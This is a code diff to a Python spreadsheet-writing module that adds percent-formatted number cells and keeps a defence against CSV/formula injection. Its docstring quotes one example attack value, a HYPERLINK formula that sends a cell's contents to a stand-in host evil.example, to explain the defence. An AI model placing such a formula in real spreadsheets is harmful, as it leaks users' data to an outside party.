@@ -5,6 +5,9 @@ A company named `=HYPERLINK("http://evil.example/?"&A2, "Invoice")` or a note st
 (CSV/formula injection, issue #15, F8). OWASP's advice: prefix such text with a single quote.
 Numbers, dates and empty cells are left alone (a negative amount stays a number).
 
+Numbers are written as numbers: a rate is the number 0.62 shown "62 %" by the cell's number format
+(`percent(0.62)`), never the text "62 %" that a spreadsheet can't sum or sort (`Formatted`).
+
 Writers never build an openpyxl `Workbook` or a `csv.writer` themselves: they use `workbook()`,
 `csv_writer()` and `DictWriter` below (binome/lib/tests/test_spreadsheets.py fails on a module
 of binome/ that does).
@@ -14,6 +17,7 @@ from __future__ import annotations
 
 import csv
 from collections.abc import Iterable, Mapping
+from dataclasses import dataclass
 from typing import Any
 
 from openpyxl import Workbook
@@ -23,8 +27,27 @@ from openpyxl.worksheet.worksheet import Worksheet
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
+PERCENT = "0%"
+DECIMAL_2 = "0.00"
+
+
+@dataclass(frozen=True)
+class Formatted:
+    """A number and the number format its cell shows it with (in an XLSX; a CSV gets the number)."""
+
+    value: float | int
+    number_format: str
+
+
+def percent(rate: float | None) -> Formatted | None:
+    """A rate (0.62) as a number cell shown as a percentage ("62 %"); None stays an empty cell."""
+    return None if rate is None else Formatted(rate, PERCENT)
+
+
 def safe_cell(value: Any) -> Any:
     """The value to write in a cell: text that a spreadsheet would run is prefixed with `'`."""
+    if isinstance(value, Formatted):
+        return value.value
     if isinstance(value, str) and value.startswith(FORMULA_STARTS):
         return "'" + value
     return value
@@ -40,11 +63,18 @@ class SafeWorksheet(Worksheet):
     def append(self, iterable: Any) -> None:
         if isinstance(iterable, Mapping):
             super().append({key: safe_cell(value) for key, value in iterable.items()})
-        else:
-            super().append(safe_row(iterable))
+            return
+        values = list(iterable)
+        super().append(safe_row(values))
+        for column, value in enumerate(values, start=1):
+            if isinstance(value, Formatted):
+                self.cell(self._current_row, column).number_format = value.number_format
 
     def cell(self, row: int, column: int, value: Any = None) -> Any:
-        return super().cell(row, column, safe_cell(value))
+        found = super().cell(row, column, safe_cell(value))
+        if isinstance(value, Formatted):
+            found.number_format = value.number_format
+        return found
 
     def __setitem__(self, key: str, value: Any) -> None:
         self[key].value = safe_cell(value)
